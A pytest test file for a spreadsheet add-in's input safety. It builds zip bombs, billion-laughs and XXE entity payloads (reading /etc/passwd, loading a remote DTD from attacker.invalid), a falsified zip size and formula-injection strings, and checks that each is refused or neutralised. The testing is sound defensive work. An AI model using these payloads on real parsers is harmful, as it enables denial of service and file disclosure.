"""Hostile input files (zip bombs, XML entity bombs, macros, external links, files that are not
spreadsheets) and formula injection through text the product writes back.

The hostile workbooks are built here byte by byte, so each test knows exactly what the file holds.
"""
from __future__ import annotations

import struct
import time
import tracemalloc
import zipfile
from pathlib import Path
from unittest.mock import MagicMock

import openpyxl
import pytest
from typer.testing import CliRunner

from addin import safety
from addin.cli import app
from addin.io import read_table
from calc import InputError

runner = CliRunner()

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '</Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Spend" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '{extra}</Relationships>')


def _cell(ref: str, value) -> str:
    if isinstance(value, str) and value.startswith("FORMULA:"):  # FORMULA:<formula>|<cached value>
        formula, cached = value[len("FORMULA:"):].split("|")
        return f'<c r="{ref}"><f>{formula}</f><v>{cached}</v></c>'
    if isinstance(value, str):
        return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'
    return f'<c r="{ref}"><v>{value}</v></c>'


def sheet_xml(rows: list[list], prolog: str = "") -> str:
    body = "".join(f'<row r="{i + 1}">' + "".join(_cell(f"{'ABCDEFGH'[j]}{i + 1}", v) for j, v in enumerate(row))
                   + "</row>" for i, row in enumerate(rows))
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + prolog +
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            f'<sheetData>{body}</sheetData></worksheet>')


SPEND_ROWS = [["date", "cost"], [45352, 100], [45353, 250]]  # 2024-03-01, 2024-03-02: 350 in all


def write_xlsx(path: Path, *, sheet: str | bytes | None = None, extra_parts: dict[str, bytes | str] | None = None,
               workbook_rels_extra: str = "") -> Path:
    """A minimal valid .xlsx (one sheet 'Spend'), optionally with a replaced sheet or extra parts."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        book.writestr("_rels/.rels", ROOT_RELS)
        book.writestr("xl/workbook.xml", WORKBOOK)
        book.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS.format(extra=workbook_rels_extra))
        book.writestr("xl/worksheets/sheet1.xml", sheet if sheet is not None else sheet_xml(SPEND_ROWS))
        for name, data in (extra_parts or {}).items():
            book.writestr(name, data)
    return path


def refused(path: Path, match: str) -> tuple[InputError, float, int]:
    """Read ``path`` as Spend; return the InputError, the seconds taken and the peak bytes allocated."""
    tracemalloc.start()
    started = time.perf_counter()
    try:
        with pytest.raises(InputError, match=match) as info:
            read_table(path, table="Spend")
    finally:
        seconds = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return info.value, seconds, peak


def test_the_minimal_workbook_reads_normally(tmp_path):
    frame = read_table(write_xlsx(tmp_path / "spend.xlsx"), table="Spend")
    assert frame["cost"].sum() == 350 and "note" not in frame.attrs  # SPEND_ROWS: 100 + 250


# --- zip bombs -------------------------------------------------------------------------------

def test_zip_bomb_refused_from_the_directory_before_unpacking(tmp_path):
    # 64 MiB of one repeated row compresses ~1000x: far beyond the limit of 100x
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("[Content_Types].xml", CONTENT_TYPES)
        with book.open("xl/worksheets/sheet1.xml", "w") as part:
            block = b'<row><c><v>1</v></c></row>' * 40_000
            for _ in range(64 * 1024**2 // len(block)):
                part.write(block)
    assert path.stat().st_size < 1024**2
    error, seconds, peak = refused(path, "inflates")
    assert "sheet1.xml" in str(error) and "zip bomb" in str(error) and "Fix:" in str(error)
    assert seconds < 1.0 and peak < 2 * 1024**2  # nothing unpacked: the check reads only the directory


def test_too_many_parts_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_ENTRIES", 50)  # the real limit is 10,000; 60 tiny parts prove the rule
    path = write_xlsx(tmp_path / "many.xlsx", extra_parts={f"xl/junk/{i}.bin": b"x" for i in range(60)})
    error, _, _ = refused(path, "parts inside")
    assert "65 parts" in str(error)  # 5 parts of a workbook + 60 junk


def test_declared_total_size_over_the_limit_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(safety, "MAX_TOTAL_BYTES", 10_000)
    rows = [["date", "cost"]] + [[45352 + i, i] for i in range(500)]
    error, _, _ = refused(write_xlsx(tmp_path / "big.xlsx", sheet=sheet_xml(rows)), "would unpack to")
    assert "split the data" in str(error)


def test_a_part_that_lies_about_its_size_is_refused_with_bounded_memory(tmp_path):
    # a 4 MiB sheet whose central-directory entry claims 2,000 bytes: the ratio check sees a small
    # part, so the streaming scan must stop it without inflating more than it claimed
    rows = [["date", "cost"]] + [[45352 + i % 700, i] for i in range(100_000)]
    path = write_xlsx(tmp_path / "liar.xlsx", sheet=sheet_xml(rows))
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    entry = data.find(b"PK\x01\x02" + b"", data.find(b"PK\x05\x06") - 10_000)
    while data[entry + 46: entry + 46 + len(name)] != name:
        entry = data.find(b"PK\x01\x02", entry + 4)
    struct.pack_into("<I", data, entry + 24, 2_000)  # uncompressed size field of the central directory
    path.write_bytes(bytes(data))
    error, seconds, peak = refused(path, "sheet1.xml")
    # Python's zip reader stops at the declared size and the checksum fails; the byte counter is the second guard
    assert "is damaged" in str(error) and "CRC" in str(error)
    assert seconds < 2.0 and peak < 4 * 1024**2


# --- XML entity bombs ------------------------------------------------------------------------

BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";" if i > 1 else "&lol;") * 10}">'
                            for i in range(1, 10)) + "]>")


@pytest.mark.parametrize("prolog, where", [
    (BILLION_LAUGHS, "sheet"),                                                  # billion laughs: 10^9 'lol's
    ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "sheet"),      # external entity (XXE)
    ('<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/x.dtd"> %p;]>', "workbook"),  # remote DTD
])
def test_xml_entity_declarations_refused(tmp_path, prolog, where):
    if where == "sheet":
        path = write_xlsx(tmp_path / "ent.xlsx", sheet=sheet_xml([["date", "cost"], [45352, "&lol9;"]], prolog))
    else:
        path = tmp_path / "ent.xlsx"
        write_xlsx(path)
        with zipfile.ZipFile(path, "a") as book:  # a second copy of the part name: the bad one is seen too
            book.writestr("xl/styles.xml", '<?xml version="1.0"?>' + prolog + "<styleSheet/>")
    error, seconds, peak = refused(path, "DOCTYPE or ENTITY")
    assert "entity" in str(error).lower() and seconds < 1.0 and peak < 4 * 1024**2


def test_entity_bomb_in_a_part_not_named_xml_refused(tmp_path):
    # the relationships may point a sheet at any part name; every non-binary part is scanned
    path = write_xlsx(tmp_path / "odd.xlsx", extra_parts={"xl/worksheets/data.txt": sheet_xml(SPEND_ROWS, BILLION_LAUGHS)})
    error, _, _ = refused(path, "DOCTYPE or ENTITY")
    assert "xl/worksheets/data.txt" in str(error) and "damaged" not in str(error)


def test_entity_bomb_in_utf16_part_refused(tmp_path):
    xml = sheet_xml(SPEND_ROWS, BILLION_LAUGHS).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    path = write_xlsx(tmp_path / "u16.xlsx", sheet=xml.encode("utf-16"))
    refused(path, "DOCTYPE or ENTITY")


# --- macros and external links ---------------------------------------------------------------

def test_macros_are_noted_never_run(tmp_path):
    # a VBA project whose name says what it would do; readers only ever read cell values
    path = write_xlsx(tmp_path / "macro.xlsm", extra_parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Auto_Open Shell"})
    frame = read_table(path, table="Spend")
    assert frame["cost"].sum() == 350
    assert "macros (VBA); they were not run" in frame.attrs["note"]


def test_external_links_are_noted_never_followed(tmp_path):
    # B3 is a formula into another workbook whose cost is 9,999; the sender's saved value is 250
    other = tmp_path / "other.xlsx"
    write_xlsx(other, sheet=sheet_xml([["date", "cost"], [45352, 9999], [45353, 9999]]))
    rows = [["date", "cost"], [45352, 100], [45353, "FORMULA:[1]Spend!B3|250"]]
    link = ('<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats.org/'
            'spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"/></externalLink>')
    link_rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                 'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                 f'officeDocument/2006/relationships/externalLinkPath" Target="{other.as_uri()}" '
                 'TargetMode="External"/></Relationships>')
    path = write_xlsx(tmp_path / "linked.xlsx", sheet=sheet_xml(rows),
                      extra_parts={"xl/externalLinks/externalLink1.xml": link,
                                   "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
                      workbook_rels_extra='<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
                                          'officeDocument/2006/relationships/externalLink" '
                                          'Target="externalLinks/externalLink1.xml"/>')
    frame = read_table(path, table="Spend")
    assert frame["cost"].tolist() == [100, 250]  # the saved value, not 9,999 from the linked file
    assert "links to 1 other workbook(s); the links were not followed" in frame.attrs["note"]


def test_cli_reports_the_macro_note_and_the_right_numbers(tmp_path):
    path = write_xlsx(tmp_path / "macro.xlsm", extra_parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    result = runner.invoke(app, ["kpi", "--spend", str(path), "--json"])
    assert result.exit_code == 0, result.output
    assert '"spend": 350' in result.stdout and "were not run" in result.stderr


# --- files that are not spreadsheets ---------------------------------------------------------

@pytest.mark.parametrize("name, content, message", [
    ("spend.xlsx", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj", "is a PDF document"),
    ("spend.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "is a PNG picture"),
    ("spend.csv", b"\xff\xd8\xff\xe0\x00\x10JFIF", "is a JPEG picture"),
    ("spend.csv", bytes(range(256)) * 8, "is a binary file"),
    ("spend.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 40, "is a gzip archive"),
    ("spend.xlsx", b"PK\x03\x04 not really a zip", "not a readable Excel workbook"),
    ("spend.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504, "not a readable Excel workbook"),
], ids=["pdf", "png", "jpeg", "binary", "gzip", "fake-zip", "fake-xls"])
def test_not_a_spreadsheet_gives_a_clear_error(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_bytes(content)
    result = runner.invoke(app, ["kpi", "--spend", str(path)])
    assert result.exit_code == 2, result.output
    assert message in result.stderr and "Spend file" in result.stderr and "Fix:" in result.stderr
    assert "Traceback" not in result.output


def test_a_word_document_is_not_read_as_a_workbook(tmp_path):
    path = tmp_path / "spend.docx"
    with zipfile.ZipFile(path, "w") as doc:
        doc.writestr("[Content_Types].xml", CONTENT_TYPES)
        doc.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(InputError, match="not a readable Excel workbook"):
        read_table(path, table="Spend")


# --- formula injection -----------------------------------------------------------------------

def test_safe_cell_text_neutralises_every_formula_start():
    hostile = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=HYPERLINK(\"http://x\",\"y\")"]
    assert [safety.safe_cell_text(v) for v in hostile] == ["'" + v for v in hostile]
    assert [safety.safe_cell_text(v) for v in ["Search", "Search-2", "", 5, -5.0, None]] == \
        ["Search", "Search-2", "", 5, -5.0, None]  # only text is touched; numbers stay numbers


def test_openpyxl_text_cell_stays_text_without_a_visible_apostrophe(tmp_path):
    book = openpyxl.Workbook()
    safety.set_text_cell(book.active["A1"], "=1+1")
    safety.set_text_cell(book.active["A2"], "=SUM(1,2)")  # real formulas go through cell.value, not this
    book.save(tmp_path / "t.xlsx")
    cell = openpyxl.load_workbook(tmp_path / "t.xlsx").active["A1"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


HOSTILE_CHANNELS = {"Search": "=1+1", "Feed": "+2+3", "Marketplace": "-4+5"}


@pytest.fixture(scope="module")
def hostile_tables():
    """The bundled sample (first quarter) with channel names that are formulas."""
    from addin.report.template import sample_tables

    tables = sample_tables(until="2025-03-31")
    for name in ("Spend", "Leads"):
        tables[name]["channel"] = tables[name]["channel"].map(HOSTILE_CHANNELS)
    return tables


def _formula_cells_with_hostile_text(path: Path) -> tuple[list[str], int]:
    """(cells that are formulas containing a hostile name, count of cells showing one as text)."""
    book = openpyxl.load_workbook(path)
    formulas, texts = [], 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(h in cell.value for h in HOSTILE_CHANNELS.values()):
                    if cell.data_type == "f":
                        formulas.append(f"{ws.title}!{cell.coordinate}={cell.value[:40]}")
                    else:
                        texts += 1
    return formulas, texts


def test_report_command_writes_hostile_names_as_text(tmp_path, hostile_tables):
    paths = {}
    for name, frame in hostile_tables.items():
        paths[name] = tmp_path / f"{name}.csv"
        frame.to_csv(paths[name], index=False)
    target = tmp_path / "report.xlsx"
    result = runner.invoke(app, ["report", "-o", str(target), "--spend", str(paths["Spend"]),
                                 "--leads", str(paths["Leads"]), "--deals", str(paths["Deals"])])
    assert result.exit_code == 0, result.output
    formulas, texts = _formula_cells_with_hostile_text(target)
    assert formulas == [] and texts > 0  # the names are in the report, as text


def test_refresh_and_share_write_hostile_names_as_text(tmp_path, hostile_tables):
    from addin.report.template import build_template
    from addin.workbook import refresh_file, share_file

    book = build_template(tmp_path / "book.xlsx", tables=hostile_tables)
    refreshed, _ = refresh_file(book, tmp_path / "refreshed.xlsx")
    formulas, texts = _formula_cells_with_hostile_text(refreshed)
    assert formulas == [] and texts > 0
    shared, _ = share_file(refreshed, tmp_path / "shared.xlsx")
    formulas, texts = _formula_cells_with_hostile_text(shared)
    assert formulas == [] and texts > 0


def test_live_excel_port_neutralises_hostile_text(hostile_tables):
    # Excel evaluates '+2+3' typed or set through range.value; the grid must carry safe text
    import calc
    from addin.report import build_plans
    from addin.workbook.live import XlwingsPort

    data = calc.prepare(hostile_tables["Spend"], hostile_tables["Leads"], hostile_tables["Deals"])
    plan = next(p for p in build_plans(data) if any(c.value in HOSTILE_CHANNELS.values() for c in p.cells))
    book, sheet, ranges = MagicMock(), MagicMock(), {}
    sheet.range.side_effect = lambda *args: ranges.setdefault(args, MagicMock())
    book.sheets.add.return_value = sheet
    XlwingsPort(book).write_sheet(plan)
    grid = ranges[((1, 1),)].value
    unsafe = [v for row in grid for v in row if safety.is_formula_like(v)
              and not any(v == c.formula for c in plan.cells)]
    assert unsafe == []


@pytest.mark.parametrize("command", ["refresh", "share"])
def test_workbook_commands_refuse_an_entity_bomb_with_a_message(tmp_path, command):
    # refresh and share open the user's own workbook with openpyxl: the same checks must run first
    book = write_xlsx(tmp_path / "book.xlsx", sheet=sheet_xml([["date", "cost"], [45352, "&lol9;"]], BILLION_LAUGHS))
    result = runner.invoke(app, [command, str(book), "-o", str(tmp_path / "out.xlsx")])
    assert result.exit_code == 2, (result.output, result.exception)
    assert "DOCTYPE or ENTITY" in result.stderr and not (tmp_path / "out.xlsx").exists()
